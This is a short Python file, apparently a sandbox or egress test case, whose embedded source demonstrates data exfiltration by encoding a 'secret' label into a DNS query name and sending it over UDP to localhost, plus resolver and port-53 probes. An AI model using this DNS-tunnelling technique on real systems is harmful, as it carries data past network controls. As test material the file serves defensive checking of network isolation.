"""Carries data out in the name that a DNS query asks for."""

GOES_FOR = "network"
SOURCE = """
import socket, struct

def attack(facts):
    name = b"".join(bytes([len(part)]) + part for part in [b"secret", b"invalid"])
    query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + name + struct.pack(">B2H", 0, 1, 1)
    def ask():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", facts["udp"]))
    return tried(query=ask, resolver=lambda: socket.getaddrinfo("127.0.0.1", "http"),
                 services=lambda: socket.create_connection(("127.0.0.1", 53), timeout=1))
"""
